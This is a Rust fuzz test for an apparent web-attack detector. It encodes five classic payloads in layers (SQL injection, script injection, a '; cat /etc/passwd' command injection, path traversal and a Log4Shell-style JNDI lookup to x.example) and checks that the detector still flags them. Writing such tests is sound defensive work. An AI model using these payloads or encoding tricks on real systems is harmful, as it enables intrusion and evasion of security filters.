//! An attack, some of its characters encoded, layer over layer: undoing finds it again, whatever was chosen.
#![no_main]

mod oracle;

use libfuzzer_sys::fuzz_target;
use portcullis_inspect::{Place, inspect};

const ATTACKS: [&str; 5] = [
    "1' or '1'='1",
    "<script>alert(1)</script>",
    "; cat /etc/passwd",
    "../../../../etc/passwd",
    "${jndi:ldap://x.example/a}",
];

/// Layers of encoding; as many are undone at least.
const LAYERS: usize = 3;

fuzz_target!(|data: &[u8]| {
    let [attack, layers @ ..] = data else { return };
    let mut value = ATTACKS[usize::from(*attack) % ATTACKS.len()].to_owned();
    for layer in layers.chunks_exact(3).take(LAYERS) {
        value = encoded(&value, layer[0], u16::from_be_bytes([layer[1], layer[2]]));
    }
    oracle::holds(value.as_bytes(), Place::Query);
    let found = inspect(value.as_bytes(), Place::Query).is_some_and(|verdict| verdict.is_attack());
    assert!(found, "{value:?} passes");
});

/// `value` with the characters encoded that `which` chooses, sixteen after sixteen; or the whole in base64.
fn encoded(value: &str, how: u8, which: u16) -> String {
    if how % 7 == 6 {
        return data_encoding::BASE64.encode(value.as_bytes());
    }
    let mut out = String::new();
    for (index, character) in value.chars().enumerate() {
        let code = character as u32;
        if which >> (index % 16) & 1 == 0 {
            out.push(character);
            continue;
        }
        match how % 7 {
            0 => out.push_str(&format!("%{code:02X}")),
            1 => out.push_str(&format!("%u{code:04x}")),
            2 => out.push_str(&format!("&#{code};")),
            3 => out.push_str(&format!("&#x{code:x};")),
            4 => out.push_str(&format!("\\u{code:04x}")),
            _ => out.push_str(&format!("\\x{code:02x}")),
        }
    }
    out
}
